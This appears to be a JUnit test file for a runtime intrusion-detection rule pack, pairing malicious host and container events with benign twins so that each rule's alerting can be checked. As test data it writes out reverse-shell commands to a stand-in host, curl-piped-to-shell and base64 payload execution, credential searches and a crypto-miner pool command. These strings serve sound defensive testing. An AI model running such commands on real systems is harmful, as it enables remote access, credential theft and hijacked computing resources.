package io.infrasight.sentinel.internal;

import static io.infrasight.sentinel.internal.Ev.O_APPEND;
import static io.infrasight.sentinel.internal.Ev.O_CREAT;
import static io.infrasight.sentinel.internal.Ev.O_RDONLY;
import static io.infrasight.sentinel.internal.Ev.O_RDWR;
import static io.infrasight.sentinel.internal.Ev.O_TRUNC;
import static io.infrasight.sentinel.internal.Ev.O_WRONLY;
import static io.infrasight.sentinel.internal.Ev.chmod;
import static io.infrasight.sentinel.internal.Ev.connect;
import static io.infrasight.sentinel.internal.Ev.exec;
import static io.infrasight.sentinel.internal.Ev.execFlags;
import static io.infrasight.sentinel.internal.Ev.mmap;
import static io.infrasight.sentinel.internal.Ev.mount;
import static io.infrasight.sentinel.internal.Ev.mprotect;
import static io.infrasight.sentinel.internal.Ev.open;
import static io.infrasight.sentinel.internal.Ev.proc;
import static io.infrasight.sentinel.internal.Ev.ptrace;
import static io.infrasight.sentinel.internal.Ev.root;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.infrasight.api.alert.Alert;
import io.infrasight.api.event.Event;
import io.infrasight.sentinel.RuleInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Every rule of the default pack, at event level: the events the probes and enrichers produce for
 * the behaviour must raise the rule's alert, and those of a benign twin must not.
 */
class DefaultPackRulesTest {
    private static Harness h;

    /** rule id, what happens, the event for it, the benign twin and what the twin does. */
    record Case(String rule, String behaviour, Event fires, String twin, Event quiet) {
    }

    private static final Ev.Proc CTR = proc("sh").in("3f2a9c0d1e7b");

    static final List<Case> CASES = List.of(
            new Case("read_sensitive_file_untrusted", "cat reads /etc/shadow", open(root("cat"), "/etc/shadow", O_RDONLY),
                    "sshd reads /etc/shadow", open(root("sshd"), "/etc/shadow", O_RDONLY)),
            new Case("read_sensitive_file_untrusted", "python reads a user's ssh private key",
                    open(proc("python3"), "/home/alice/.ssh/id_ed25519", O_RDONLY),
                    "python reads the public key", open(proc("python3"), "/home/alice/.ssh/id_ed25519.pub", O_RDONLY)),
            new Case("write_below_etc", "sh writes /etc/ld.so.preload", open(root("sh"), "/etc/ld.so.preload", O_WRONLY | O_CREAT),
                    "dpkg writes below /etc", open(root("dpkg"), "/etc/ld.so.preload", O_WRONLY | O_CREAT)),
            new Case("write_below_binary_dir", "curl writes /usr/local/bin/kworker",
                    open(root("curl"), "/usr/local/bin/kworker", O_WRONLY | O_CREAT | O_TRUNC),
                    "a dpkg maintainer script (parent dpkg) writes /usr/bin/x",
                    open(root("cp").parent("dpkg"), "/usr/bin/x", O_WRONLY | O_CREAT)),
            new Case("sudoers_modification", "sh appends to /etc/sudoers.d/backdoor",
                    open(root("sh"), "/etc/sudoers.d/backdoor", O_WRONLY | O_CREAT | O_APPEND),
                    "sudo reads /etc/sudoers.d/backdoor", open(root("sudo"), "/etc/sudoers.d/backdoor", O_RDONLY)),
            new Case("cron_modification", "bash writes /etc/cron.d/miner", open(root("bash"), "/etc/cron.d/miner", O_WRONLY | O_CREAT),
                    "cron reads /etc/cron.d/miner", open(root("cron"), "/etc/cron.d/miner", O_RDONLY)),
            new Case("ssh_authorized_keys_modification", "sh appends to ~/.ssh/authorized_keys",
                    open(proc("sh"), "/home/alice/.ssh/authorized_keys", O_WRONLY | O_APPEND),
                    "sshd reads authorized_keys", open(root("sshd"), "/home/alice/.ssh/authorized_keys", O_RDONLY)),
            new Case("log_truncation", "sh truncates /var/log/auth.log", open(root("sh"), "/var/log/auth.log", O_WRONLY | O_TRUNC),
                    "rsyslogd appends to /var/log/auth.log", open(root("sh"), "/var/log/auth.log", O_WRONLY | O_APPEND)),
            new Case("shell_history_cleared", "bash truncates ~/.bash_history",
                    open(proc("bash"), "/home/alice/.bash_history", O_WRONLY | O_TRUNC),
                    "bash appends to ~/.bash_history", open(proc("bash"), "/home/alice/.bash_history", O_WRONLY | O_APPEND)),
            new Case("cgroup_release_agent_write", "sh writes a cgroup release_agent",
                    open(CTR, "/sys/fs/cgroup/rdma/x/release_agent", O_WRONLY | O_TRUNC),
                    "cat reads release_agent", open(CTR.named("cat"), "/sys/fs/cgroup/rdma/x/release_agent", O_RDONLY)),
            new Case("proc_mem_write", "python opens /proc/1234/mem for writing", open(root("python3"), "/proc/1234/mem", O_RDWR),
                    "gdb opens /proc/1234/mem for writing", open(root("gdb"), "/proc/1234/mem", O_RDWR)),
            new Case("container_runtime_socket_opened_in_container", "a container opens /var/run/docker.sock",
                    open(CTR.named("curl"), "/var/run/docker.sock", O_RDWR),
                    "a host process opens /var/run/docker.sock", open(root("dockerd"), "/var/run/docker.sock", O_RDWR)),
            new Case("fileless_execution_memfd", "a memfd is executed", execFlags(proc("x"), "/dev/fd/3", true, false, "x"),
                    "a regular binary is executed", execFlags(proc("ls"), "/usr/bin/ls", false, false, "ls")),
            new Case("execution_from_tmp", "/dev/shm/payload is executed", exec(proc("payload"), "/dev/shm/payload", "payload"),
                    "/usr/bin/true is executed", exec(proc("true"), "/usr/bin/true", "true")),
            new Case("execution_of_deleted_binary", "a deleted binary is executed",
                    execFlags(proc("x"), "/dev/fd/3", false, true, "x"),
                    "the same path, not deleted", execFlags(proc("x"), "/dev/fd/3", false, false, "x")),
            new Case("hidden_file_executed_from_tmp", "/tmp/.x is executed", exec(proc(".x"), "/tmp/.x", ".x"),
                    "/tmp/x is executed (no hidden-file alert)", exec(proc("x"), "/tmp/x", "x")),
            new Case("shell_spawned_by_server", "java starts sh -c", exec(proc("sh").parent("java"), "/bin/sh", "sh", "-c", "id"),
                    "bash starts sh -c", exec(proc("sh").parent("bash"), "/bin/sh", "sh", "-c", "id")),
            new Case("shell_spawned_by_server", "nginx starts bash", exec(proc("bash").parent("nginx"), "/bin/bash", "bash"),
                    "nginx starts nginx", exec(proc("nginx").parent("nginx"), "/usr/sbin/nginx", "nginx")),
            new Case("terminal_shell_in_container", "bash with a tty in a container",
                    exec(proc("bash").in("abc123").with("proc.tty", "34816"), "/bin/bash", "bash"),
                    "bash without a tty in a container", exec(proc("bash").in("abc123"), "/bin/bash", "bash", "-c", "true")),
            new Case("terminal_shell_in_container", "bare bash in a container (kubectl exec -it pod -- bash)",
                    exec(proc("bash").in("abc123"), "/bin/bash", "bash"),
                    "bare bash where the container could not be resolved",
                    exec(proc("bash").with("container.id", "unknown"), "/bin/bash", "bash")),
            new Case("reverse_shell_netcat", "nc -e /bin/sh 10.0.0.1 4444", exec(proc("nc"), "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
                    "nc -z host 80 (port check)", exec(proc("nc"), "/usr/bin/nc", "nc", "-z", "10.0.0.1", "80")),
            new Case("reverse_shell_dev_tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                    exec(proc("bash"), "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                    "bash -c echo hello", exec(proc("bash"), "/bin/bash", "bash", "-c", "echo hello")),
            new Case("download_piped_to_shell", "sh -c 'curl http://x/i.sh | sh'",
                    exec(proc("sh"), "/bin/sh", "sh", "-c", "curl -s http://x.example/i.sh | sh"),
                    "sh -c 'curl -o file http://x'", exec(proc("sh"), "/bin/sh", "sh", "-c", "curl -o /tmp/f http://x.example/")),
            new Case("encoded_payload_executed", "sh -c 'echo ... | base64 -d | sh'",
                    exec(proc("sh"), "/bin/sh", "sh", "-c", "echo aWQK | base64 -d | sh"),
                    "sh -c 'base64 file'", exec(proc("sh"), "/bin/sh", "sh", "-c", "base64 /etc/hostname > /tmp/x")),
            new Case("credential_search", "grep -r aws_secret_access_key /", exec(proc("grep"), "/usr/bin/grep", "grep", "-r", "aws_secret_access_key", "/"),
                    "grep -r TODO src", exec(proc("grep"), "/usr/bin/grep", "grep", "-r", "TODO", "src")),
            new Case("credential_search", "find / -name id_rsa", exec(proc("find"), "/usr/bin/find", "find", "/", "-name", "id_rsa"),
                    "find / -name '*.log'", exec(proc("find"), "/usr/bin/find", "find", "/", "-name", "*.log")),
            new Case("network_tool_on_host", "nmap on the host", exec(proc("nmap"), "/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"),
                    "nmap in a container (other rule)", exec(proc("nmap").in("abc"), "/usr/bin/nmap", "nmap", "10.0.0.1")),
            new Case("network_tool_in_container", "tcpdump in a container", exec(proc("tcpdump").in("abc"), "/usr/bin/tcpdump", "tcpdump", "-i", "any"),
                    "curl in a container", exec(proc("curl").in("abc"), "/usr/bin/curl", "curl", "http://x")),
            new Case("crypto_miner_stratum", "xmrig -o stratum+tcp://pool:3333",
                    exec(proc("xmrig"), "/tmp/xmrig", "xmrig", "-o", "stratum+tcp://pool.example:3333"),
                    "curl https://pool.example", exec(proc("curl"), "/usr/bin/curl", "curl", "https://pool.example")),
            new Case("crypto_mining_pool_connection", "connect to port 3333", connect(proc("xmrig"), 2, "203.0.113.7", 3333),
                    "connect to port 443", connect(proc("curl"), 2, "203.0.113.7", 443)),
            new Case("k8s_api_from_container", "a container connects to 10.96.0.1:443", connect(CTR.named("python3"), 2, "10.96.0.1", 443),
                    "kubectl in a container connects to it", connect(CTR.named("kubectl"), 2, "10.96.0.1", 443)),
            new Case("ssh_to_non_standard_port", "ssh to port 2222", connect(proc("ssh"), 2, "198.51.100.4", 2222),
                    "ssh to port 22", connect(proc("ssh"), 2, "198.51.100.4", 22)),
            new Case("container_runtime_socket_connect_in_container", "a container connects to docker.sock",
                    connect(CTR.named("docker"), 1, "/var/run/docker.sock", 0),
                    "a container connects to another unix socket", connect(CTR.named("docker"), 1, "/run/app.sock", 0)),
            new Case("ptrace_attach", "python attaches to pid 1", ptrace(root("python3"), 16, "PTRACE_ATTACH", 1),
                    "gdb attaches to pid 1", ptrace(root("gdb"), 16, "PTRACE_ATTACH", 1)),
            new Case("ptrace_code_injection", "POKETEXT into pid 1", ptrace(root("inject"), 4, "PTRACE_POKETEXT", 1),
                    "PEEKTEXT from pid 1", ptrace(root("inject"), 1, "PTRACE_PEEKTEXT", 1)),
            new Case("ptrace_traceme_anti_debugging", "a program calls TRACEME on itself", ptrace(proc("malware").parent("bash"), 0, "PTRACE_TRACEME", 0),
                    "a strace child calls TRACEME", ptrace(proc("ls").parent("strace"), 0, "PTRACE_TRACEME", 0)),
            new Case("wx_memory_mmap", "a C program maps RWX", mmap(proc("loader"), 7, true),
                    "java maps RWX (JIT)", mmap(proc("java"), 7, true)),
            new Case("wx_memory_mprotect", "mprotect to RWX", mprotect(proc("loader"), 7, true),
                    "mprotect to RX", mprotect(proc("loader"), 5, false)),
            new Case("setuid_setgid_bit_set", "chmod u+s /tmp/rootsh", chmod(root("chmod"), "/tmp/rootsh", 04755),
                    "chmod 755 /tmp/rootsh", chmod(root("chmod"), "/tmp/rootsh", 0755)),
            new Case("chmod_exec_in_container", "chmod +x in a container", chmod(CTR.named("chmod"), "/app/dropper", 0755),
                    "chmod 644 in a container", chmod(CTR.named("chmod"), "/app/config", 0644)),
            new Case("mount_in_container", "a container mounts /dev/sda1", mount(CTR.named("mount2"), "/dev/sda1", "/mnt", "ext4", 0),
                    "a host process mounts tmpfs", mount(root("mount2"), "tmpfs", "/mnt/x", "tmpfs", 0)),
            new Case("mount_sensitive_host_path", "bind mount of /etc", mount(root("unshare"), "/etc", "/tmp/x", "", 4096),
                    "bind mount of /srv/data", mount(root("unshare"), "/srv/data", "/tmp/x", "", 4096)));

    @BeforeAll
    static void load() throws Exception {
        h = Harness.withDefaultPack();
    }

    @TestFactory
    Stream<DynamicTest> eachBehaviourAlertsAndItsBenignTwinDoesNot() {
        return CASES.stream().flatMap(c -> Stream.of(
                DynamicTest.dynamicTest(c.rule() + ": " + c.behaviour() + " alerts", () -> {
                    List<Alert> alerts = h.run(c.fires());
                    Alert a = alerts.stream().filter(x -> x.ruleId().equals(c.rule())).findFirst()
                            .orElseThrow(() -> new AssertionError(c.rule() + " did not fire for " + c.fires()
                                    + "; got " + alerts.stream().map(Alert::ruleId).toList()));
                    assertSame(c.fires(), a.event(), "the alert carries the triggering event");
                    assertEquals("sentinel", a.detector());
                    assertFalse(a.message().isBlank());
                    assertTrue(a.message().contains(c.fires().header().comm()) || a.message().contains(
                            String.valueOf(c.fires().header().pid())), "message names the process: " + a.message());
                    assertTrue(a.tags().stream().anyMatch(t -> t.matches("T\\d{4}(\\.\\d{3})?")),
                            "MITRE ATT&CK technique tag: " + a.tags());
                    assertTrue(String.valueOf(a.details().get("description")).length() > 40, "triage advice");
                }),
                DynamicTest.dynamicTest(c.rule() + ": " + c.twin() + " does not alert", () -> {
                    List<String> ids = h.ruleIds(c.quiet());
                    assertFalse(ids.contains(c.rule()), c.rule() + " fired for the benign twin " + c.quiet());
                })));
    }

    @Test
    void everyRuleOfTheDefaultPackHasAnEventLevelCase() {
        Set<String> covered = CASES.stream().map(Case::rule).collect(Collectors.toSet());
        Set<String> missing = new TreeSet<>();
        for (RuleInfo r : h.sentinel.rules()) {
            if (!covered.contains(r.id())) {
                missing.add(r.id());
            }
        }
        assertTrue(missing.isEmpty(), "rules without a test case: " + missing);
        assertTrue(h.sentinel.rules().size() >= 30, "the default pack has at least 30 rules");
    }

    @Test
    void severityAndTagsComeFromTheRule() {
        Alert a = h.run(execFlags(proc("x"), "/dev/fd/3", true, false, "x")).get(0);
        assertEquals(io.infrasight.api.alert.Severity.CRITICAL, a.severity());
        assertTrue(a.tags().contains("T1620"), a.tags().toString());
        assertTrue(a.message().startsWith("Fileless execution from memfd (file=/dev/fd/3 process=x pid=4711"), a.message());
    }

    @Test
    void userCanExtendATrustedListWithoutEditingThePack() throws Exception {
        Harness local = new Harness(0, 0);
        local.loadDefaultPack();
        local.sentinel.putSource("etc", "/etc/rules/local.yaml", """
                - list: trusted_sensitive_readers
                  items: [backup-agent]
                  append: true
                """);
        assertTrue(local.sentinel.recompile().isEmpty());
        assertTrue(local.ruleIds(open(root("backup-agent"), "/etc/shadow", O_RDONLY)).isEmpty());
        assertEquals(List.of("read_sensitive_file_untrusted"), local.ruleIds(open(root("cat"), "/etc/shadow", O_RDONLY)));
    }

    @Test
    void userCanDisableARuleAndOverrideAKnownActivitiesMacro() throws Exception {
        Harness local = new Harness(0, 0);
        local.loadDefaultPack();
        local.sentinel.putSource("etc", "/etc/rules/local.yaml", """
                - rule: network_tool_on_host
                  enabled: false
                - macro: user_known_tmp_execution
                  condition: exec.filename startswith /tmp/ci-
                """);
        assertTrue(local.sentinel.recompile().isEmpty());
        assertTrue(local.ruleIds(exec(proc("nmap"), "/usr/bin/nmap", "nmap")).isEmpty());
        assertTrue(local.ruleIds(exec(proc("t"), "/tmp/ci-build/t", "t")).isEmpty());
        assertEquals(List.of("execution_from_tmp"), local.ruleIds(exec(proc("t"), "/tmp/evil", "t")));
        List<String> ids = new ArrayList<>();
        local.sentinel.rules().forEach(r -> ids.add(r.id()));
        assertFalse(ids.contains("network_tool_on_host"));
    }
}
